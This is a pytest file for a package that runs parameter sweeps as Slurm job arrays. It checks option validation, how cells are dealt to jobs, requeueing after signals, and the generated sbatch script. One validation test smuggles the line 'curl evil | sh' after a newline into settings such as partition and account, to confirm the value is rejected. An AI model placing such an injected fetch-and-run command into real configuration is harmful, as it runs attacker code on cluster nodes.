"""What a sweep asks of Slurm and makes of its answers, with stand-ins for Slurm's commands."""

import os
import signal
import stat
import subprocess

import pytest

from rnnchaos.errors import ConfigError
from rnnchaos.runs import Status
from rnnchaos.sweeps.running import report
from rnnchaos.sweeps.slurm import array, job
from rnnchaos.sweeps.slurm.options import SlurmOptions
from rnnchaos.sweeps.slurm.submissions import Submission, queued, record, submissions
from rnnchaos.sweeps.standing import Standing
from rnnchaos.sweeps.sweep import Sweep


@pytest.fixture
def slurm(tmp_path, monkeypatch):
    """`slurm(squeue="...")`: commands of that name that note how they are called, and run a line of shell."""
    folder = tmp_path / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", str(folder), prepend=os.pathsep)

    def define(**commands):
        for name, line in commands.items():
            file = folder / name
            file.write_text(f'#!/bin/sh\necho "{name} $*" >> {folder}/calls\n{line}\n')
            file.chmod(file.stat().st_mode | stat.S_IXUSR)

    define.calls = lambda: (folder / "calls").read_text().splitlines()
    return define


@pytest.mark.parametrize(
    ("settings", "said"),
    [
        (
            {"partion": "gpu"},
            r"hydra.launcher.partion is not a setting; did you mean hydra.launcher.partition",
        ),
        ({"mem_gb": 0}, r"hydra.launcher.mem_gb must be greater than 0, got 0"),
        ({"setup": "module load cuda"}, r"hydra.launcher.setup must be a list of names"),
        *(
            (
                {name: f"a\n{evil}"},
                rf"hydra.launcher.{name} must be one line without control characters, got 'a\\\\n",
            )
            for evil in ["curl evil | sh"]
            for name in ("partition", "account", "qos", "constraint", "python")
        ),
        ({"setup": ["a\rb"]}, r"hydra.launcher.setup must be one line"),
        ({"additional_parameters": {"comment": "a\nb"}}, r"additional_parameters.comment must be one line"),
        (
            {"additional_parameters": {"a\nb": 1}},
            r"additional_parameters must give a text or a number for each",
        ),
        ({"python": "a 'b"}, r"hydra.launcher.python must be a command"),
        (
            {"timeout_min": 1, "signal_delay_s": 60},
            r"signal_delay_s must be below the limit of a job \(60 s\), got 60",
        ),
    ],
)
def test_a_bad_setting_is_named(settings, said):
    with pytest.raises(ConfigError, match=said):
        SlurmOptions.read(settings)


def test_options_survive_being_written_down():
    options = SlurmOptions.read(
        {"partition": "gpu", "setup": ["module load cuda"], "additional_parameters": {"x": 1}}
    )
    assert SlurmOptions.read(options.to_json()) == options


def test_a_partition_that_is_not_there_names_the_nearest(slurm):
    slurm(sbatch="", sinfo="echo long; echo short")
    SlurmOptions(partition="long,short").check_cluster()
    with pytest.raises(
        ConfigError, match=r"partition=lon: no such partition; did you mean long.*: long, short"
    ):
        SlurmOptions(partition="lon").check_cluster()
    slurm(sinfo="echo 'slurm_load_partitions: Unable to contact' >&2; exit 1")
    with pytest.raises(ConfigError, match="Slurm does not answer: slurm_load_partitions: Unable to contact"):
        SlurmOptions().check_cluster()


def test_without_slurm_it_says_so(monkeypatch):
    monkeypatch.setenv("PATH", "")
    with pytest.raises(ConfigError, match="there is no sbatch on the PATH"):
        SlurmOptions().check_cluster()


def test_what_the_command_line_has_set_reaches_the_node():
    asked = SlurmOptions(setup=("module load x",)).for_submitit(
        "demo", {"XLA_FLAGS": "--a --b", "SECRET": "1", "RNNCHAOS_PLUGINS": "/srv/mine.py:pkg"}
    )
    assert asked["slurm_setup"] == [
        "module load x",
        "export RNNCHAOS_PLUGINS=/srv/mine.py:pkg",
        "export XLA_FLAGS='--a --b'",
    ]
    assert asked["slurm_additional_parameters"] == {"requeue": True}
    assert "slurm_partition" not in asked


def test_cells_are_dealt_to_jobs(sweep, cells, tmp_path):
    def dealt(**options):
        return array.deal(sweep, range(4), SlurmOptions(**options))

    assert dealt() == [[(0,)], [(1,)], [(2,)], [(3,)]]
    assert dealt(cells_per_job=3) == [[(0,), (1,), (2,)], [(3,)]]
    assert dealt(max_jobs=2) == [[(0,), (1,)], [(2,), (3,)]]
    # On a GPU those that differ in their seeds alone are one program: tau 5, then tau 10.
    assert dealt(cells_per_job=2, gpus_per_node=1) == [[(0, 2)], [(1, 3)]]
    assert dealt(cells_per_job=4, gpus_per_node=1) == [[(0, 2), (1, 3)]]
    assert dealt(gpus_per_node=1) == [[(0,)], [(2,)], [(1,)], [(3,)]]


def test_there_are_never_more_jobs_than_one_array_takes(tmp_path, cells):
    sweep = Sweep.create(tmp_path, "demo", cells(seeds=(0, 1, 2), taus=(5, 10, 15, 20, 25)), command=[])
    jobs = array.deal(
        sweep, range(15), SlurmOptions(gpus_per_node=1, max_jobs=3)
    )  # five each, in groups of three
    assert [sum(map(len, job)) for job in jobs] == [5, 5, 5]
    assert sorted(index for job in jobs for batch in job for index in batch) == list(range(15))


def test_a_cell_that_a_job_waits_for_is_queued(sweep, slurm, capsys):
    record(sweep, Submission("7", ((0,), (1, 2)), SlurmOptions()))
    record(sweep, Submission("8", ((3,),), SlurmOptions()))
    known = submissions(Sweep.open(sweep.path))
    assert known == [
        Submission("7", ((0,), (1, 2)), SlurmOptions()),
        Submission("8", ((3,),), SlurmOptions()),
    ]
    slurm(squeue="echo '7_1|PENDING'; echo '8|RUNNING'; echo '9_0|RUNNING'")
    assert queued(known) == {1: "7_1", 2: "7_1", 3: "8"}
    from rich.console import Console

    counts = report(sweep, Console()).record["counts"]
    assert counts == {"waiting": 1, "queued": 3}
    assert "go on with: rnnchaos sweep run" in capsys.readouterr().out
    slurm(squeue="exit 1")
    assert queued(known) == {}


@pytest.fixture
def on_a_node(monkeypatch):
    """The environment of the third job of array 7, and no handler of signals left behind."""
    monkeypatch.setenv("SLURM_ARRAY_JOB_ID", "7")
    monkeypatch.setenv("SLURM_ARRAY_TASK_ID", "2")
    monkeypatch.setenv("SLURM_JOB_ID", "12")
    numbers = (signal.SIGINT, signal.SIGTERM, signal.SIGUSR1, signal.SIGUSR2, signal.SIGCONT)
    before = {number: signal.getsignal(number) for number in numbers}
    yield
    for number, handler in before.items():
        signal.signal(number, handler)


def run_job(sweep, monkeypatch, *standings, max_requeues=1):
    """The exit code of a job whose cells end so."""
    left = [Standing(str(status)) for status in standings]
    monkeypatch.setattr(job, "train_batch", lambda *_: [left.pop(0)])
    with pytest.raises(SystemExit) as ended:
        job.work(sweep.path, [(index,) for index in range(len(left))], False, max_requeues)
    return ended.value.code, len(left)


@pytest.mark.parametrize(
    ("standings", "code"),
    [
        ((Status.FINISHED, Status.DIVERGED), 0),
        ((Status.FAILED, Status.FINISHED), 1),
        ((Status.RUNNING,), 0),  # another process is at it
    ],
)
def test_a_job_ends_as_its_cells(sweep, monkeypatch, on_a_node, standings, code):
    assert run_job(sweep, monkeypatch, *standings) == (code, 0)


def test_a_job_that_is_stopped_goes_back_into_the_queue(sweep, monkeypatch, on_a_node, slurm):
    slurm(scontrol='[ "$1" = --oneliner ] && echo "JobId=12 JobState=RUNNING Reason=None"')
    assert run_job(sweep, monkeypatch, Status.FINISHED, Status.TIMED_OUT, Status.FINISHED) == (1, 1)
    assert slurm.calls() == ["scontrol --oneliner show job 7_2", "scontrol requeue 7_2"]


@pytest.mark.parametrize(
    ("status", "state", "goes_back"),
    [
        (Status.INTERRUPTED, "RUNNING", True),  # it is about to lose its node
        (Status.INTERRUPTED, "COMPLETING", False),  # scancel
        (Status.TIMED_OUT, "COMPLETING", True),  # it took until after the limit to save
        (Status.TIMED_OUT, "CANCELLED", False),
    ],
)
def test_but_not_if_it_was_cancelled(sweep, monkeypatch, on_a_node, slurm, status, state, goes_back):
    slurm(scontrol=f'[ "$1" = --oneliner ] && echo "JobId=12 JobState={state} Reason=None"')
    assert run_job(sweep, monkeypatch, status) == (1, 0)
    assert ("scontrol requeue 7_2" in slurm.calls()) == goes_back


def test_nor_too_often(sweep, monkeypatch, on_a_node, slurm, capsys):
    slurm(scontrol='[ "$1" = --oneliner ] && echo "JobId=12 JobState=RUNNING"')
    monkeypatch.setenv("SLURM_RESTART_COUNT", "1")
    assert run_job(sweep, monkeypatch, Status.TIMED_OUT) == (1, 0)
    assert "job 7_2 was requeued 1 times" in capsys.readouterr().out
    assert not any("requeue" in call for call in slurm.calls())


@pytest.mark.parametrize(("restarts", "code", "looks"), [("0", 0, 2), ("1", 1, 4)])
def test_a_job_whose_node_has_died_waits_for_its_own_cell(
    sweep, monkeypatch, on_a_node, restarts, code, looks, capsys
):
    """The node may have died a minute ago: until its last sign of life is old, the cell counts as running."""
    monkeypatch.setenv("SLURM_RESTART_COUNT", restarts)
    left = [Status.RUNNING, Status.FINISHED, Status.RUNNING, Status.FAILED]
    asked = []

    def train(path, batch, retry_failed):
        asked.append(batch)
        return [Standing(str(left.pop(0)))]

    monkeypatch.setattr(job, "train_batch", train)
    monkeypatch.setattr(job.time, "sleep", lambda seconds: None)
    with pytest.raises(SystemExit) as ended:
        job.work(sweep.path, [(0,), (1,)], False, 1)
    assert ended.value.code == code
    assert asked == [(0,), (1,), (0,), (0,)][:looks]
    assert ("waits for the last sign of life of 1 cell " in capsys.readouterr().out) == (restarts == "1")


def test_a_signal_between_two_cells_counts(sweep, monkeypatch, on_a_node, slurm):
    slurm(scontrol='[ "$1" = --oneliner ] && echo "JobState=RUNNING"')

    def signalled(*_):
        os.kill(os.getpid(), signal.SIGUSR2)

    monkeypatch.setattr(job, "train_batch", signalled)
    with pytest.raises(SystemExit):
        job.work(sweep.path, [(0,)], False, 3)
    assert slurm.calls()[-1] == "scontrol requeue 7_2"


def test_a_refused_submission_says_what_slurm_says(sweep, slurm):
    slurm(srun="", sbatch="echo 'sbatch: error: Batch job submission failed: Invalid account' >&2; exit 1")
    with pytest.raises(
        ConfigError, match="Slurm refuses the jobs: Batch job submission failed: Invalid account"
    ):
        array.submit(sweep, range(4), SlurmOptions(account="nobody"))
    assert submissions(sweep) == []


def test_the_script_for_slurm(sweep, slurm):
    slurm(srun="", sbatch='cat "$1" > "${1%/*}/seen"; echo Submitted batch job 31')
    options = SlurmOptions(
        partition="gpu", account="me", constraint="a100&nvlink", timeout_min=90, gpus_per_node=1
    )
    submission = array.submit(sweep, [0, 2, 3], options)
    assert submission.job_ids == ["31_0", "31_1", "31_2"]
    assert submissions(sweep) == [submission]
    (seen,) = sweep.path.glob("slurm/*/seen")  # a folder of its own, in which nobody has put a task
    script = seen.read_text().splitlines()
    for flag in (
        "--array=0-2%3", "--partition=gpu", "--account=me", "--constraint='a100&nvlink'", "--time=90",
        "--gpus-per-node=1", "--requeue", "--signal=USR2@120", "--open-mode=append", "--job-name=demo",
    ):  # fmt: skip
        assert f"#SBATCH {flag}" in script
    assert subprocess.run(["bash", "-n"], input="\n".join(script), text=True, check=False).returncode == 0
